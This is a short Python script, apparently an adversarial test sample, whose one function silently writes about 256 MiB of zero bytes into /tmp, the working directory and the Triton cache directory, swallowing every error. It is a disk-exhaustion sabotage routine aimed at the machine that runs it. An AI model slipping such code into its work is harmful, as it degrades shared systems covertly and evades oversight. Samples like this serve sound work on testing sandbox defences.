import os

CHUNK = b"\0" * (8 << 20)
NAME = "adversarial-fill.bin"


def fill():
    for folder in ("/tmp", os.getcwd(), os.environ.get("TRITON_CACHE_DIR", "")):
        if not folder:
            continue
        try:
            with open(os.path.join(folder, NAME), "wb") as f:
                for _ in range(32):
                    f.write(CHUNK)
        except Exception:
            pass
